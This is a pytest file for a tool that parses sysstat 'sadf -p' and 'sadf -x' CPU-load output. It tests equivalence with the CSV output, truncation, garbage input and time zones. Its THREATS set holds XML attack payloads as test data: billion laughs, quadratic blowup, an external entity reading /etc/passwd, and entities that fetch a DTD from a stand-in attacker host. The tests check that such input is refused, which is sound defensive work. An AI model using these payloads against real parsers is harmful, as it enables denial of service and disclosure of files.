"""sadf's other forms of sar's per-CPU load: `sadf -p` (sadf_ppc) and `sadf -x` (sadf_xml)
read into the same samples `sadf -d` (sadf_csv) gives for the same sar binary; XML that
declares entities is refused."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest

from corescope.sources.artifacts import sadf_forms
from corescope.sources.artifacts.content import sniff
from support import FIXTURES, parse_artifact, sample_tuples

ART = FIXTURES / "artifacts"
SA_BIN = ART / "sar_burn_sa.bin"  # `sar -o sa.bin -P ALL 1 5` while one CPU burned

def _bytes(name: str) -> bytes:
    return (ART / name).read_bytes()


_read = parse_artifact
_samples = sample_tuples


# --- sadf -p ----------------------------------------------------------------------------------

@pytest.mark.parametrize("name,ref", [
    ("sadf_p.txt", "sadf_burn_d.csv"),     # -- -P ALL -u ALL
    ("sadf_p_u.txt", "sadf_burn_d.csv"),   # -- -P ALL -u (%user, %system; no irq/soft: all 0)
    ("sadf_p_t.txt", "sadf_burn_d.csv"),   # -t: local time without a zone, read here in UTC
    ("sadf_p_A.txt", "sadf_A_d.csv"),      # -- -A: only the CPU rows are per-core load
])
def test_sadf_ppc_equals_sadf_csv_of_the_same_binary(utc, name: str, ref: str  # type: ignore[no-untyped-def]
                                                     ) -> None:
    p = _read(_bytes(name), name)
    assert p.kind == "sadf_ppc"
    assert not p.diagnostics and not p.notes
    r = _read(_bytes(ref), ref)
    assert r.kind == "sadf_csv"
    assert len(p.samples) == len(r.samples) >= 3
    assert _samples(p) == _samples(r)


def test_sadf_ppc_values(utc) -> None:  # type: ignore[no-untyped-def]
    """10:27:55: cpu0 at 1.01 %usr, 1.01 %sys, 97.98 %idle; cpu1 at 100 %usr (the burner)."""
    p = _read(_bytes("sadf_p.txt"))
    t, itv, d = _samples(p)[1]
    assert (t, itv) == (time.mktime((2026, 12, 1, 10, 27, 55, 0, 0, 0)), 1.0)
    # FIELDS order: user, nice, system, idle, iowait, irq, softirq, steal, guest, guest_nice
    assert d == {0: (1, 0, 1, 98, 0, 0, 0, 0, 0, 0), 1: (100, 0, 0, 0, 0, 0, 0, 0, 0, 0)}
    assert p.cpus() == (0, 1)


def test_sadf_ppc_other_activities_are_not_cpu_rows() -> None:
    """`-- -A` prints interrupts as `IRQ cpuN value` and softnet as `cpuN total/s`: a CPU
    in the field column or a non-percentage field is never read as CPU load."""
    text = _bytes("sadf_p_A.txt").decode()
    assert "\t24\tcpu0\t" in text and "\tcpu0\ttotal/s\t" in text and "\tcpu0\tMHz\t" in text
    only = "\n".join(ln for ln in text.splitlines() if "\t%" not in ln or "\tcpu" not in ln)
    assert sniff(only.encode()) is None  # no per-CPU %idle row: not claimed
    p = sadf_forms.parse(only.encode(), "sadf_ppc", "t")
    assert p.records == 0 and p.diagnostics


def test_sadf_ppc_local_time_follows_the_zone(monkeypatch: pytest.MonkeyPatch) -> None:
    """`sadf -p -t` prints the node's local time without a zone: read in corescope's zone,
    as `sadf -d -t` is (set TZ to the node's)."""
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        local = _samples(_read(_bytes("sadf_p_t.txt")))
        utc_ = _samples(_read(_bytes("sadf_p.txt")))
    finally:
        monkeypatch.undo()
        time.tzset()
    assert [s[0] - 5 * 3600 for s in local] == [s[0] for s in utc_]
    assert [s[1:] for s in local] == [s[1:] for s in utc_]


def test_sadf_ppc_epoch_and_content_not_name() -> None:
    """`sadf -p -U` (epoch seconds) reads as the zoned form; the kind comes from content."""
    lines = _bytes("sadf_p.txt").decode().splitlines()
    epoch = "\n".join(ln.replace("2026-12-01 10:27:", "").replace(" UTC", "") for ln in lines)
    # 10:27:54 UTC is 1796120874: rebuild the epoch column from the seconds left over
    epoch = "\n".join(
        "\t".join([*f[:2], str(1796120874 + int(f[2]) - 54), *f[3:]])
        for f in (ln.split("\t") for ln in epoch.splitlines()))
    assert sniff(epoch.encode()) == "sadf_ppc"
    assert _samples(_read(epoch.encode())) == _samples(_read(_bytes("sadf_p.txt")))


def test_sadf_ppc_all_cpu_only_says_what_is_missing() -> None:
    text = "\n".join(ln for ln in _bytes("sadf_p.txt").decode().splitlines() if "\tall\t" in ln)
    p = sadf_forms.parse(text.encode(), "sadf_ppc", "t")
    assert p.records == 0
    assert any("-P ALL" in d.message for d in p.diagnostics)


@pytest.mark.parametrize("cut", [0.13, 0.5, 0.77, 0.999])
def test_sadf_ppc_truncated(utc, cut: float) -> None:  # type: ignore[no-untyped-def]
    """A file cut mid-record: the complete CPU rows are read, the cut one is said and
    skipped (a CPU without its %idle must not read as a busy CPU)."""
    data = _bytes("sadf_p.txt")
    whole = _samples(_read(data))
    p = sadf_forms.parse(data[: int(len(data) * cut)], "sadf_ppc", "t")
    got = _samples(p)
    for t, itv, d in got:
        ref = next(r for r in whole if r[0] == t)
        assert itv == ref[1] and all(d[c] == ref[2][c] for c in d)
    assert p.diagnostics  # the cut row (or a half line) is named
    assert sum(len(d) for _, _, d in got) < sum(len(d) for _, _, d in whole)


@pytest.mark.parametrize("junk", [
    b"vm\t1\t2026-12-01 10:27:54 UTC\tcpu0\t%idle\tx\n",
    b"vm\tone\t2026-12-01 10:27:54 UTC\tcpu0\t%idle\t1\n",
    b"vm\t1\tyesterday\tcpu0\t%idle\t1\n",
    b"\x00\xff\t\t\t\n",
    b"vm\t1\t2026-12-01 10:27:54 UTC\tcpu99999999\t%idle\t1\n",
])
def test_sadf_ppc_garbage_gives_a_diagnostic(junk: bytes) -> None:
    data = _bytes("sadf_p.txt")
    for at in (0, len(data) // 2, len(data)):
        cut = data.rfind(b"\n", 0, at) + 1
        p = sadf_forms.parse(data[:cut] + junk + data[cut:], "sadf_ppc", "t")
        assert p.diagnostics
        assert len(p.samples) >= 4
    p = sadf_forms.parse(junk * 3, "sadf_ppc", "t")
    assert p.records == 0 and p.diagnostics


def test_sadf_ppc_glued_twice_reads_each_time_once(utc) -> None:  # type: ignore[no-untyped-def]
    data = _bytes("sadf_p.txt")
    p = sadf_forms.parse(data + data, "sadf_ppc", "t")
    assert _samples(p) == _samples(_read(data))
    assert any("already read" in d.message for d in p.diagnostics)


# --- sadf -x -----------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["sadf_x.xml", "sadf_x_tu.xml"])
def test_sadf_xml_equals_sadf_csv_of_the_same_binary(name: str, monkeypatch: pytest.MonkeyPatch
                                                     ) -> None:
    """`sadf -x` (and `-x -t` of `-u`: the node's local time, `utc="0"`, its header naming
    UTC) gives what `sadf -d` gives, whatever zone corescope runs in."""
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        p = _read(_bytes(name), name)
        r = _read(_bytes("sadf_burn_d.csv"))
    finally:
        monkeypatch.undo()
        time.tzset()
    assert p.kind == "sadf_xml"
    assert b"http://" in _bytes(name)  # sadf's DOCTYPE names an http DTD: never fetched
    assert not p.diagnostics and not p.notes
    assert len(p.samples) == 5
    assert _samples(p) == _samples(r)


def test_sadf_xml_is_read_without_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*a: object, **k: object) -> None:
        raise AssertionError("the XML reader touched the network")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    assert len(sadf_forms.parse(_bytes("sadf_x.xml"), "sadf_xml", "t").samples) == 5


_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
_BODY = _bytes("sadf_x.xml").decode().split("\n", 3)[3]  # from <sysstat on

THREATS = {
    "billion laughs": _HEAD + '<!DOCTYPE sysstat [\n<!ENTITY lol "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)) + "]>\n" + _BODY.replace("<sysdata-version>",
                                                        "<sysdata-version>&lol9;"),
    "quadratic blowup": _HEAD + '<!DOCTYPE sysstat [<!ENTITY a "' + "x" * 5000 + '">]>\n'
    + _BODY.replace('usr="0.00"', 'usr="0.00" x="' + "&a;" * 100 + '"', 1),
    "external entity": _HEAD + '<!DOCTYPE sysstat [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "\n" + _BODY.replace("<release>", "<release>&xxe;"),
    "parameter entity": _HEAD + '<!DOCTYPE sysstat [<!ENTITY % dtd SYSTEM '
    '"http://192.0.2.1/evil.dtd"> %dtd;]>\n' + _BODY,
    "unparsed entity": _HEAD + '<!DOCTYPE sysstat [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM '
    '"http://192.0.2.1/u" NDATA n>]>\n' + _BODY,
}


@pytest.mark.parametrize("threat", sorted(THREATS))
def test_sadf_xml_entity_declarations_are_refused(threat: str, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """defusedxml's threats all need an entity declaration: such a document is not read at
    all (sadf never declares one), with the reason, and nothing is fetched."""
    from corescope.ingest import import_paths
    from corescope.store.db import Store

    monkeypatch.setattr(socket.socket, "connect", lambda *a: pytest.fail("network"))
    data = THREATS[threat].encode()
    assert sniff(data) == "sadf_xml"
    p = sadf_forms.parse(data, "sadf_xml", "t")
    assert p.records == 0 and len(p.samples) == 0
    assert "declares entities" in p.diagnostics[0].message
    assert "refused" in p.diagnostics[0].message
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "sar.xml").write_bytes(data)
    with Store.open(tmp_path / "s") as store:
        (f,) = import_paths([tmp_path / "in"], store).files
    assert f.kind == "sadf_xml" and f.status == "skipped" and f.records == 0
    assert f.reason is not None and "refused" in f.reason


def test_sadf_xml_deep_nesting_is_refused() -> None:
    data = (_HEAD + "<sysstat>" + "<a>" * 5000 + "</a>" * 5000 + "</sysstat>").encode()
    p = sadf_forms.parse(data, "sadf_xml", "t")
    assert p.records == 0 and "nested" in p.diagnostics[0].message


@pytest.mark.parametrize("cut", [0.3, 0.55, 0.8, 0.97])
def test_sadf_xml_truncated(utc, cut: float) -> None:  # type: ignore[no-untyped-def]
    """A cut file: the complete timestamps are read, the cut one is not (its CPU list may be
    short), and the break is named."""
    data = _bytes("sadf_x.xml")
    whole = _samples(_read(data))
    p = sadf_forms.parse(data[: int(len(data) * cut)], "sadf_xml", "t")
    got = _samples(p)
    assert got == whole[: len(got)] and len(got) < len(whole)
    assert any("XML breaks at line" in d.message for d in p.diagnostics)


@pytest.mark.parametrize("junk", [
    b"<sysstat><<<>>>", b"<sysstat>\x00\xff", b'<?xml version="1.0"?><sysstat>',
    b'<?xml version="1.0" encoding="bogus"?><sysstat/>', b"<sysstat></host></sysstat>",
])
def test_sadf_xml_garbage_gives_a_diagnostic(junk: bytes) -> None:
    assert sniff(junk) == "sadf_xml"
    p = sadf_forms.parse(junk, "sadf_xml", "t")
    assert p.records == 0 and p.diagnostics
    bad = _bytes("sadf_x.xml").replace(b'usr="1.01"', b'usr="x"').replace(
        b'interval="1">\n\t\t\t\t<cpu-load>\n\t\t\t\t\t<cpu number="all" usr="50.75"',
        b'interval="?">\n\t\t\t\t<cpu-load>\n\t\t\t\t\t<cpu number="all" usr="50.75"')
    p = sadf_forms.parse(bad, "sadf_xml", "t")
    assert p.diagnostics and 3 <= len(p.samples) < 5
